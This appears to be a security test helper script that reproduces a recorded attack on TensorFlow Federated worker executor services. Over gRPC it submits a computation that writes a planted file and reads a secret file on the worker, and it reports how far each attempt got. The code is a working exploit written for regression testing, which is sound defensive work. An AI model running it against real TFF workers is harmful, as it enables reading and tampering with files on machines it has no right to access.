"""What issue 27's attacker did, as a script (tests/test_worker_security.py): connect to a TFF worker's
executor service and submit a `tff.tensorflow.computation` that writes one file and reads another,
which the worker does as its own user.

    python tests/worker_attack.py SECRET ATTEMPT...

Each ATTEMPT is a JSON object: {"target": `host:port` or `unix:PATH`, "planted": the file the computation
writes}, in plain gRPC; with "ca" (and "cert", "key") in TLS that trusts `ca` (and presents `cert` and
`key`); with "as_other_user": true as `nobody` (tests/other_user.py). The script becomes that user once,
after TensorFlow is loaded and every computation built and every file read, so the attempts as the
other user come after all others. It prints one JSON object per attempt: {"target", "stage" (how far it
got: "connect", "get_executor", "create_value", "compute"), "read" (the secret's text when the attack
worked), "error"}. Every call has a deadline.
"""

from __future__ import annotations

import json
import queue
import sys
import time

import other_user

CONNECT_SECONDS = 15.0
CALL_SECONDS = 60.0


def build_attack(secret: str, planted: str):
    import tensorflow as tf
    import tensorflow_federated as tff

    @tff.tensorflow.computation
    def steal():
        written = tf.io.write_file(planted, "written by the attacker")
        with tf.control_dependencies([written]):
            return tf.io.read_file(secret)

    return steal


def settled(channel):
    """The channel's state once its first connection attempt ends: READY, or TRANSIENT_FAILURE at once when
    the worker closes the connection or the TLS handshake fails (waiting for READY would wait out the
    deadline on every refused attempt); the last state seen after CONNECT_SECONDS."""
    import grpc

    states: queue.Queue = queue.Queue()
    channel.subscribe(states.put, try_to_connect=True)
    deadline = time.monotonic() + CONNECT_SECONDS
    state = None
    try:
        while state not in (grpc.ChannelConnectivity.READY, grpc.ChannelConnectivity.TRANSIENT_FAILURE):
            state = states.get(timeout=max(0.0, deadline - time.monotonic()))
    except queue.Empty:
        pass
    finally:
        channel.unsubscribe(states.put)
    return state


def attack(target: str, steal, credentials=None) -> dict:
    import grpc
    import tensorflow_federated as tff
    from tensorflow_federated.proto.v0 import computation_pb2, executor_pb2, executor_pb2_grpc

    result = {"target": target, "stage": "connect", "read": None, "error": None}
    channel = grpc.secure_channel(target, credentials) if credentials is not None else grpc.insecure_channel(target)
    try:
        stub = executor_pb2_grpc.ExecutorGroupStub(channel)  # TFF's service, with a deadline on each call
        if settled(channel) != grpc.ChannelConnectivity.READY:
            result["error"] = "the connection never became ready"
        result["stage"] = "get_executor"
        clients = executor_pb2.Cardinality(placement=computation_pb2.Placement(uri=tff.CLIENTS.uri), cardinality=1)
        executor = stub.GetExecutor(executor_pb2.GetExecutorRequest(cardinalities=[clients]),
                                    timeout=CALL_SECONDS).executor
        result["stage"] = "create_value"
        value, _ = tff.framework.serialize_value(steal, steal.type_signature)
        function = stub.CreateValue(executor_pb2.CreateValueRequest(executor=executor, value=value),
                                    timeout=CALL_SECONDS).value_ref
        call = stub.CreateCall(executor_pb2.CreateCallRequest(executor=executor, function_ref=function),
                               timeout=CALL_SECONDS).value_ref
        result["stage"] = "compute"
        answer = stub.Compute(executor_pb2.ComputeRequest(executor=executor, value_ref=call), timeout=CALL_SECONDS)
        data, _ = tff.framework.deserialize_value(answer.value, steal.type_signature.result)
        result["read"] = data.decode() if isinstance(data, bytes) else str(data)
        result["error"] = None
    except grpc.RpcError as error:
        result["error"] = f"{error.code().name}: {error.details()}"
    finally:
        channel.close()
    return result


def credentials_for(attempt: dict):
    import grpc

    if "ca" not in attempt:
        return None
    read = {name: open(attempt[name], "rb").read() if attempt.get(name) else None for name in ("ca", "cert", "key")}
    return grpc.ssl_channel_credentials(root_certificates=read["ca"], private_key=read["key"],
                                        certificate_chain=read["cert"])


def main(argv: list[str]) -> int:
    secret, *attempts = argv
    attempts = [json.loads(a) for a in attempts]
    others = [a.get("as_other_user", False) for a in attempts]
    if others != sorted(others):
        print("the attempts as the other user must come last: there is no way back", file=sys.stderr)
        return 2
    # Everything loaded and read first: the other user may not be able to read it.
    prepared = [(build_attack(secret, a["planted"]), credentials_for(a)) for a in attempts]
    import grpc  # noqa: F401
    from tensorflow_federated.proto.v0 import computation_pb2, executor_pb2, executor_pb2_grpc  # noqa: F401

    became = False
    for attempt, other, (steal, credentials) in zip(attempts, others, prepared):
        if other and not became:
            other_user.become_other_user()
            became = True
        print(json.dumps(attack(attempt["target"], steal, credentials)), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
